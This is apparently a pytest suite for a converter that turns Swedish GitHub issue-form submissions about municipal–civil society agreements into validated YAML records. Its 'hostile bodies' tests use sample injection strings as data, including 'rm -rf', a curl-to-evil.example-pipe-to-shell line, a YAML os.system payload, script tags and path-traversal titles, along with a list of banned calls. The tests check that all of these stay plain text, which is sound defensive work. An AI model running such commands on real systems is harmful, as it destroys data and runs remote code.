"""The issue form "Föreslå en ny överenskommelse" becomes a record (issue #15, point 3).

Bodies are rendered from the form file itself the way GitHub renders a submitted form:
`### <label>`, a blank line, the answer (`_No response_` when empty), checkbox fields as
`- [X] label` / `- [ ] label` lines. Expected records are computed from the answers and from
data/organisations/, not copied from the converter's output.
"""
from __future__ import annotations

import datetime as dt
import functools
import importlib.util
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

REPO = Path(__file__).resolve().parents[2]
FORM = REPO / ".github" / "ISSUE_TEMPLATE" / "ny-overenskommelse.yml"
SCHEMA = REPO / "data" / "schema" / "record.schema.json"
MODULE = REPO / "src" / "samverkan" / "tools" / "issueform.py"

try:  # the package layout after the move to src/
    from samverkan.tools import issueform
except ImportError:  # this branch: samverkan is still hooks/samverkan, so load the file itself
    spec = importlib.util.spec_from_file_location("samverkan_tools_issueform", MODULE)
    issueform = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = issueform
    spec.loader.exec_module(issueform)

TODAY = dt.date(2026, 12, 1)


@functools.cache
def form() -> dict:
    return yaml.safe_load(FORM.read_text("utf-8"))


def elements() -> list[dict]:
    return [el for el in form()["body"] if el["type"] != "markdown"]  # callers do not modify them


@functools.cache
def org(oid: str) -> dict:
    return yaml.safe_load((REPO / "data" / "organisations" / f"{oid}.yaml").read_text("utf-8"))


def organisations_of_kind(kind: str) -> list[str]:
    return sorted(p.stem for p in (REPO / "data" / "organisations").glob("*.yaml") if org(p.stem)["kind"] == kind)


def render(answers: dict, crlf: bool = False) -> str:
    """A body as GitHub writes it for a submitted form. Checkbox answers are lists of checked labels."""
    parts = []
    for el in elements():
        label = el["attributes"]["label"]
        value = answers.get(el["id"])
        if el["type"] == "checkboxes":
            checked = value or []
            options = [o["label"] for o in el["attributes"]["options"]]
            text = "\n".join(f"- [{'X' if o in checked else ' '}] {o}" for o in options)
        else:
            text = value if value else "_No response_"
        parts.append(f"### {label}\n\n{text}")
    body = "\n\n".join(parts)
    return body.replace("\n", "\r\n") if crlf else body


HONEST = list(issueform.HONESTY)
PUBLIC = organisations_of_kind("offentlig")
CIVIL = organisations_of_kind("civilsamhalle")


def valid_answers() -> dict:
    pub, civ = org(PUBLIC[0]), org(CIVIL[0])
    return {
        "title": "Överenskommelse mellan Provstad och den idéburna sektorn",
        "kind": issueform.KINDS["lok"],
        "scope": issueform.SCOPES["local"],
        "municipalities": "Västerås",
        "counties": "Västmanlands län",
        "parties_public": pub["title"],
        "parties_civil": civ["title"].upper(),  # names match regardless of case
        "date": "2012-06",
        "valid_from": "2012-07-01",
        "valid_to": "2016",
        "decision_body": "kommunfullmäktige",
        "decision_date": "2012-06-14",
        "principles": [issueform.PRINCIPLES["dialog"], issueform.PRINCIPLES["mangfald"]],
        "themes": "Integration, social välfärd",
        "summary": "Provstad och föreningarna kom överens om hur de samverkar.",
        "document_url": "https://docplayer.se/123-overenskommelse.html",
        "document_copy": [issueform.DOCUMENT_COPY],
        "source_title": "Överenskommelsen (pdf)",
        "source_url": "https://www.example.se/overenskommelse.pdf",
        "source_publisher": "Provstad",
        "source_date": "2012-06-21",
        "honesty": HONEST,
    }


def convert(body: str, **kw):
    return issueform.convert(body, REPO, today=TODAY, **kw)


def texts(result) -> str:
    return "\n".join(map(str, result.messages))


# -- the form and the converter agree --------------------------------------------------------------

def test_form_name_and_labels_are_the_converters():
    assert form()["name"] == "Föreslå en ny överenskommelse"
    assert {el["id"]: el["attributes"]["label"] for el in elements()} == issueform.LABELS


def test_form_options_are_the_converters():
    els = {el["id"]: el for el in elements()}
    assert els["kind"]["attributes"]["options"] == list(issueform.KINDS.values())
    assert els["scope"]["attributes"]["options"] == list(issueform.SCOPES.values())
    for fid, options in issueform.CHECKBOX_OPTIONS.items():
        assert els[fid]["type"] == "checkboxes", fid
        assert [o["label"] for o in els[fid]["attributes"]["options"]] == list(options), fid
    by_type = lambda *types: {fid for fid, el in els.items() if el["type"] in types}  # noqa: E731
    assert by_type("input", "dropdown") == issueform.SINGLE_LINE
    assert by_type("checkboxes") == issueform.CHECKBOXES


def test_form_kinds_and_principles_are_the_schemas():
    schema = json.loads(SCHEMA.read_text("utf-8"))
    assert list(issueform.PRINCIPLES) == schema["properties"]["principles"]["items"]["enum"]
    kinds = next(r["then"]["properties"]["kind"]["enum"] for r in schema["allOf"]
                 if r["if"]["properties"]["type"]["const"] == "agreement")
    assert list(issueform.KINDS) == kinds
    assert sorted(issueform.SCOPES) == sorted(schema["properties"]["scope"]["enum"])


def agreement_fields(schema: dict) -> set[str]:
    fields = set(schema["properties"])
    for rule in schema["allOf"]:
        if rule["if"]["properties"]["type"]["const"] == "agreement":
            fields -= {k for k, v in rule["then"]["properties"].items() if v is False}
    return fields


def test_form_asks_for_every_agreement_field():
    """Each id is a record field, or `<field>_<part>` for a part of one (sources → source_)."""
    schema = json.loads(SCHEMA.read_text("utf-8"))
    props = schema["properties"]
    fields = agreement_fields(schema)
    own = {"notes", "honesty", "parties_public", "parties_civil"}  # parties: the two sides of parties
    covered = set()
    for el in elements():
        fid = el["id"]
        if fid in own:
            covered |= {"parties"} if fid.startswith("parties_") else set()
            continue
        if fid in fields:
            covered.add(fid)
            continue
        head, _, part = fid.partition("_")
        parent = "sources" if head == "source" else head
        assert parent in fields, fid
        sub = props[parent].get("items", props[parent]).get("properties", {})
        assert part in sub, fid
        covered.add(parent)
    assert fields - covered == {"type", "added", "updated"}, fields - covered


# -- valid bodies ----------------------------------------------------------------------------------

def test_valid_body_becomes_the_record_it_describes():
    a = valid_answers()
    result = convert(render(a))
    assert result.ok, texts(result)
    rec = result.record
    assert rec["type"] == "agreement" and rec["kind"] == "lok"
    assert rec["title"] == a["title"] and rec["summary"] == a["summary"]
    assert (rec["date"], rec["valid_from"], rec["valid_to"]) == (a["date"], a["valid_from"], a["valid_to"])
    assert rec["scope"] == "local"
    assert rec["municipalities"] == ["Västerås"] and rec["counties"] == ["Västmanlands län"]
    assert rec["parties"] == [{"organisation": PUBLIC[0], "role": "part"}, {"organisation": CIVIL[0], "role": "part"}]
    assert rec["decision"] == {"body": "kommunfullmäktige", "date": "2012-06-14"}
    assert rec["principles"] == ["dialog", "mangfald"]
    assert rec["themes"] == ["integration", "social välfärd"]
    assert rec["document"] == {"url": a["document_url"], "copy": True}
    assert rec["sources"] == [{"title": a["source_title"], "publisher": "Provstad", "url": a["source_url"],
                               "date": "2012-06-21", "states_period": True}]
    assert rec["added"] == TODAY.isoformat()
    assert "until_further_notice" not in rec and "iop" not in rec


def test_id_is_kind_and_place_and_the_file_is_in_agreements():
    result = convert(render(valid_answers()))
    existing = {p.stem for p in (REPO / "data").rglob("*") if p.suffix in (".yaml", ".yml", ".md")}
    # kind-place, then kind-place-year (the form's date is 2012-06), then kind-place-words of the title
    expected = next(c for c in ("lok-vasteras", "lok-vasteras-2012", "lok-vasteras-provstad") if c not in existing)
    assert result.record_id == expected
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", result.record_id)
    assert result.path == (REPO / "data" / "agreements" / f"{result.record_id}.yaml").resolve()


def test_an_existing_id_is_not_reused():
    existing = next(p for p in sorted((REPO / "data" / "agreements").glob("lok-*.yaml")))
    rec = yaml.safe_load(existing.read_text("utf-8"))
    a = valid_answers() | {"municipalities": rec["municipalities"][0]}
    result = convert(render(a))
    assert result.ok, texts(result)
    assert result.record_id != existing.stem and result.record_id.startswith(existing.stem)


def test_crlf_body_gives_the_same_record():
    a = valid_answers()
    assert convert(render(a, crlf=True)).record == convert(render(a)).record


def test_yaml_round_trips_and_quotes_dates_and_codes(tmp_path):
    a = valid_answers() | {"municipalities": "1980, Västerås"}
    result = convert(render(a))
    assert result.ok, texts(result)
    text = issueform.to_yaml(result.record)
    assert yaml.safe_load(text) == result.record
    assert text.startswith("# yaml-language-server: $schema=../schema/record.schema.json\n")
    for value in ("2012-06", "2012-07-01", "2016", "2012-06-14", "1980", TODAY.isoformat()):
        assert f"'{value}'" in text, value


def test_written_file_passes_the_validator(tmp_path):
    """The record, written into a copy of data/, is valid for `samverkan validate`."""
    root = tmp_path / "repo"
    import shutil
    shutil.copytree(REPO / "data", root / "data")
    result = issueform.convert(render(valid_answers()), root, today=TODAY)
    assert result.ok, texts(result)
    path = issueform.write(result)
    assert path.parent == (root / "data" / "agreements").resolve()
    samverkan = Path(sys.executable).parent / "samverkan"
    if not samverkan.exists():
        pytest.skip("samverkan är inte installerat i den här miljön")
    run = subprocess.run([str(samverkan), "--root", str(root), "validate", str(path)],
                         capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stdout + run.stderr


def test_empty_optional_answers_are_left_out():
    a = {k: valid_answers()[k] for k in ("title", "kind", "source_title", "source_url", "honesty")}
    result = convert(render(a))
    assert result.ok, texts(result)
    assert set(result.record) == {"type", "kind", "title", "sources", "added"}
    assert result.record["sources"] == [{"title": a["source_title"], "url": a["source_url"]}]
    assert result.record_id.startswith("lok-")


def test_until_further_notice_and_iop_fields():
    a = valid_answers() | {"kind": issueform.KINDS["iop"], "valid_to": "",
                           "until_further_notice": [issueform.UNTIL_FURTHER_NOTICE],
                           "iop_activity": "Ett stödboende", "iop_target_group": "Unga vuxna"}
    result = convert(render(a))
    assert result.ok, texts(result)
    assert result.record["until_further_notice"] is True
    assert result.record["iop"] == {"activity": "Ett stödboende", "target_group": "Unga vuxna"}
    assert result.record_id.startswith("iop-vasteras-")


def test_attachments_people_related_and_supersedes():
    some_id = sorted(p.stem for p in (REPO / "data" / "agreements").glob("*.yaml"))[0]
    a = valid_answers() | {
        "attachments": "Handlingsplan, https://www.example.se/plan.pdf\n[bilaga.pdf](https://github.com/user-attachments/files/1/bilaga.pdf)",
        "people": "Anna Andersson, kommunstyrelsens ordförande",
        "related": f"https://samverkansbasen.github.io/samverkansbasen/overenskommelser/{some_id}/",
        "supersedes": some_id,
    }
    result = convert(render(a))
    assert result.ok, texts(result)
    assert result.record["attachments"] == [
        {"title": "Handlingsplan", "url": "https://www.example.se/plan.pdf"},
        {"title": "bilaga.pdf", "url": "https://github.com/user-attachments/files/1/bilaga.pdf"}]
    assert result.record["people"] == [{"name": "Anna Andersson", "role": "kommunstyrelsens ordförande"}]
    assert result.record["related"] == [some_id] and result.record["supersedes"] == [some_id]


# -- what the proposer must fix --------------------------------------------------------------------

def test_all_empty_answers_name_the_required_fields():
    result = convert(render({}))
    assert not result.ok
    for fid in ("title", "kind", "source_title", "source_url", "honesty"):
        assert f"{issueform.LABELS[fid]}:" in texts(result), fid


def test_unknown_organisation_is_named_with_the_closest_ids():
    target = PUBLIC[0]
    typo = org(target)["title"][:-1] + "x"
    result = convert(render(valid_answers() | {"parties_public": typo}))
    assert not result.ok
    msg = next(m for m in result.messages if m.field == "Offentliga parter")
    assert typo in msg.text and "data/organisations/" in msg.text and target in msg.text
    assert "parties" not in result.record or all(p["organisation"] != typo for p in result.record["parties"])


def test_party_on_the_wrong_side():
    result = convert(render(valid_answers() | {"parties_civil": org(PUBLIC[1])["title"]}))
    assert any(m.field == "Idéburna parter" and PUBLIC[1] in m.text for m in result.messages), texts(result)


@pytest.mark.parametrize("fid,value", [("date", "juni 2012"), ("valid_from", "2012-13"),
                                       ("valid_to", "2012-02-30"), ("source_date", "12-06-2012"),
                                       ("decision_date", "1700")])
def test_bad_dates(fid, value):
    result = convert(render(valid_answers() | {fid: value}))
    assert any(m.field == issueform.LABELS[fid] and "ÅÅÅÅ" in m.text for m in result.messages), texts(result)


@pytest.mark.parametrize("fid", ["source_url", "document_url"])
@pytest.mark.parametrize("value", ["bifogad fil", "javascript:alert(1)", "https://user:pw@example.se/x",
                                   "file:///etc/passwd", "https://localhost/x"])
def test_bad_urls(fid, value):
    result = convert(render(valid_answers() | {fid: value}))
    assert any(m.field == issueform.LABELS[fid] and "https://" in m.text for m in result.messages), texts(result)


def test_conflicting_period_and_order():
    result = convert(render(valid_answers() | {"until_further_notice": [issueform.UNTIL_FURTHER_NOTICE]}))
    assert any(m.field == "Tills vidare" for m in result.messages)
    result = convert(render(valid_answers() | {"valid_from": "2016", "valid_to": "2012"}))
    assert any(m.field == "Gäller till och med" for m in result.messages)


def test_honesty_boxes_must_be_checked():
    result = convert(render(valid_answers() | {"honesty": HONEST[:1]}))
    assert [m.field for m in result.messages] == ["Källor och personuppgifter"]


def test_not_a_form():
    result = convert("Hej! Lägg gärna till Provstads överenskommelse.")
    assert not result.ok and result.record is None
    assert "formuläret" in texts(result)


# -- hostile bodies --------------------------------------------------------------------------------

SHELLISH = ["$(rm -rf /)", "`rm -rf ~`", "${{ github.token }}", "'; curl evil.example | sh; '",
            "!!python/object/apply:os.system ['id']", "{{ 7*7 }}", "<script>alert(1)</script>"]


@pytest.mark.parametrize("text", SHELLISH)
def test_hostile_text_stays_text(text, monkeypatch):
    def refuse(*a, **k):
        raise AssertionError("the converter started a process")
    monkeypatch.setattr(subprocess, "Popen", refuse)
    monkeypatch.setattr(os, "system", refuse)
    a = valid_answers() | {"title": f"Överenskommelse {text}", "summary": text}
    result = convert(render(a))
    assert result.ok, texts(result)
    assert result.record["title"] == a["title"] and result.record["summary"] == text
    assert yaml.safe_load(issueform.to_yaml(result.record)) == result.record
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", result.record_id)


def test_module_starts_no_process_and_reads_no_environment():
    source = MODULE.read_text("utf-8")
    for banned in ("subprocess", "os.system", "os.popen", "shell=True", "eval(", "exec(", "os.environ",
                   "yaml.load(", "yaml.unsafe_load", "pickle"):
        assert banned not in source, banned


@pytest.mark.parametrize("title", ["../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "....//....//x",
                                   "lok-lund/../../hooks", "..", "%2e%2e%2f"])
def test_path_traversal_in_title(title):
    a = valid_answers() | {"title": title, "municipalities": "", "counties": ""}
    result = convert(render(a))
    if result.record_id is None:
        assert any(m.field == "Titel" for m in result.messages)
        return
    assert "/" not in result.record_id and "\\" not in result.record_id and ".." not in result.record_id
    assert result.path.parent == (REPO / "data" / "agreements").resolve()


@pytest.mark.parametrize("bad", ["../x", "a/b", "x..y", "", "A", "lok-", "lok_lund"])
def test_record_path_refuses_non_slugs(bad):
    with pytest.raises(ValueError):
        issueform.record_path(REPO, bad)


def test_one_megabyte_body_is_refused():
    body = render(valid_answers() | {"summary": "a" * 1_000_000})
    result = convert(body)
    assert not result.ok and result.record is None
    assert "för lång" in texts(result)


def test_long_answer_is_refused_by_field():
    result = convert(render(valid_answers() | {"title": "Överenskommelse " + "x" * 600}))
    assert any(m.field == "Titel" and "för långt" in m.text for m in result.messages)


@pytest.mark.parametrize("char", ["\x00", "\x1b", "\x7f", "\u202e", "\u2028", "\x85"])
def test_control_characters_are_refused_by_field(char):
    result = convert(render(valid_answers() | {"summary": f"Text{char}mer"}))
    assert any(m.field == "Sammanfattning" and "styrtecken" in m.text for m in result.messages), texts(result)
    assert not result.ok


def test_nul_bytes_anywhere_are_refused():
    result = convert(render(valid_answers()).replace("### Titel", "### Titel\x00"))
    assert not result.ok


def test_a_forged_heading_is_refused():
    """A text field that holds `### Titel` would otherwise replace the answer above it."""
    a = valid_answers() | {"summary": "Sammanfattning\n\n### Titel\n\nNågot annat"}
    result = convert(render(a))
    assert any(m.field == "Titel" and "två gånger" in m.text for m in result.messages), texts(result)


def test_forged_checkbox_is_refused():
    body = render(valid_answers()).replace("- [ ] Kvalitet (kvalitet)", "- [X] Hemlig princip (hemlig)")
    result = convert(body)
    assert any(m.field == "Principer" for m in result.messages)


def test_messages_markdown_shows_hostile_text_as_text():
    result = convert(render(valid_answers() | {"parties_public": "@octocat <img src=x onerror=alert(1)> [x](javascript:1)"}))
    md = issueform.messages_markdown(result.messages)
    assert "@octocat" not in md and "<img" not in md and "](javascript" not in md
    assert "Ingen post har skrivits." in md


# -- the command -----------------------------------------------------------------------------------

def event_file(tmp_path: Path, body) -> Path:
    path = tmp_path / "event.json"
    path.write_text(json.dumps({"action": "opened", "issue": {"number": 7, "body": body}}), "utf-8")
    return path


def test_main_writes_the_record_and_outputs(tmp_path):
    import shutil
    root = tmp_path / "repo"
    shutil.copytree(REPO / "data", root / "data")
    out = tmp_path / "github_output"
    rc = issueform.main(["--root", str(root), "--event", str(event_file(tmp_path, render(valid_answers()))),
                         "--write", "--github-output", str(out), "--today", TODAY.isoformat()])
    assert rc == 0
    lines = dict(line.split("=", 1) for line in out.read_text().splitlines())
    written = root / lines["file"]
    assert written.is_file() and lines["file"] == f"data/agreements/{lines['id']}.yaml"
    assert yaml.safe_load(written.read_text("utf-8"))["title"] == valid_answers()["title"]


def test_main_refuses_and_writes_nothing(tmp_path):
    import shutil
    root = tmp_path / "repo"
    shutil.copytree(REPO / "data", root / "data")
    before = sorted((root / "data").rglob("*"))
    messages = tmp_path / "svar.md"
    rc = issueform.main(["--root", str(root), "--event", str(event_file(tmp_path, render({}))), "--write",
                         "--messages", str(messages)])
    assert rc == 1
    assert sorted((root / "data").rglob("*")) == before
    assert "**Titel**" in messages.read_text("utf-8")


def test_main_with_a_null_body(tmp_path):
    assert issueform.main(["--root", str(REPO), "--event", str(event_file(tmp_path, None))]) == 1


DATA = issueform.DataSet.load(REPO)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(title=st.text(min_size=1, max_size=200), summary=st.text(max_size=400))
def test_any_text_is_refused_with_a_message_or_kept_exactly(title, summary):
    """Whatever the answers hold: a message, or a record that says exactly that, under a slug id."""
    a = valid_answers() | {"title": title, "summary": summary}
    result = issueform.convert(render(a), REPO, today=TODAY, data=DATA)
    if not result.ok:
        assert result.messages and all(str(m) for m in result.messages)
        return
    text = issueform.to_yaml(result.record)
    assert yaml.safe_load(text) == result.record
    assert result.record["title"] == title.strip()
    assert result.record.get("summary", "") == summary.strip()
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", result.record_id) and len(result.record_id) <= issueform.MAX_ID
    assert result.path.parent == (REPO / "data" / "agreements").resolve()
